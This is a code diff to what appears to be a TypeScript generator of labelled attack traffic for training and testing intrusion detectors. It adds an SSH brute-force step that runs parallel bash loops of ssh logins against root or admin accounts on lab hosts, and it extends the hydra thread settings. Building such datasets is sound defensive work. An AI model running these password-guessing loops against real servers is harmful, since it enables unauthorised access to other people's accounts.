@@ -1,5 +1,5 @@
-/** Password guessing by hydra against ssh and ftp: one thread to many, with and without pauses, different users. */
-import { writeFile } from 'node:fs/promises';
+/** Password guessing against ssh and ftp: hydra, one thread to many, with and without pauses; and a loop around ssh itself. */
+import { chmod, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { type AttackFamily, type AttackStep, between } from './attack-step.ts';
 
@@ -22,9 +22,34 @@ const guess = (service: 'ssh' | 'ftp', threads: number, options = '', seconds = 
   },
 });
 
+/** Hydra keeps a connection for all guesses a server allows; a loop around the client takes a new one for each. */
+const guessWithClient = (parallel: number, pauseSeconds: number, seconds = 24): AttackStep => ({
+  name: `ssh in ${parallel} loops, pause ${pauseSeconds} s`,
+  class: 'brute_force_ssh',
+  seconds,
+  command: async ({ site, random, attacker, folder }) => {
+    const guess = join(folder, 'guess');
+    await writeFile(guess, '#!/bin/sh\necho "guess$$"\n');
+    await chmod(guess, 0o755);
+    const victim = random.pick(site.serving('ssh')).address;
+    const options = ['StrictHostKeyChecking=no', 'UserKnownHostsFile=/dev/null', 'PubkeyAuthentication=no'];
+    const client = ['ssh', ...[...options, 'NumberOfPasswordPrompts=1', 'ConnectTimeout=5'].map((one) => `-o${one}`)];
+    const script = `
+      export SSH_ASKPASS=${guess} SSH_ASKPASS_REQUIRE=force
+      trap 'kill 0' EXIT
+      for loop in $(seq ${parallel}); do while :; do "$@" true; sleep ${pauseSeconds}; done & done
+      sleep ${seconds}`;
+    return {
+      from: attacker,
+      argv: ['setsid', '-w', 'bash', '-c', script, 'bash', ...client, `${random.pick(['root', 'admin'])}@${victim}`],
+      truth: [between(attacker.address, victim)],
+    };
+  },
+});
+
 export const bruteForceSsh: AttackFamily = {
   name: 'brute-force-ssh',
-  description: 'hydra against sshd, 1 to 16 at a time',
+  description: 'hydra against sshd, 1 to 32 at a time; loops around ssh',
   steps: {
     train: [
       guess('ssh', 4),
@@ -34,8 +59,20 @@ export const bruteForceSsh: AttackFamily = {
       guess('ssh', 8),
       guess('ssh', 1, '-c 2', 30),
       guess('ssh', 12, '-e nsr'),
+      guess('ssh', 32),
+      guessWithClient(1, 0),
+      guessWithClient(4, 0.2),
+      guessWithClient(10, 1),
     ],
-    validation: [guess('ssh', 6), guess('ssh', 3, '-e n'), guess('ssh', 10, '-W 2'), guess('ssh', 1, '-c 3', 30)],
+    validation: [
+      guess('ssh', 6),
+      guess('ssh', 3, '-e n'),
+      guess('ssh', 10, '-W 2'),
+      guess('ssh', 24),
+      guessWithClient(2, 0.1),
+      guessWithClient(6, 0.5),
+      guess('ssh', 1, '-c 3', 30),
+    ],
     demo: [guess('ssh', 4, '', 12)],
   },
 };
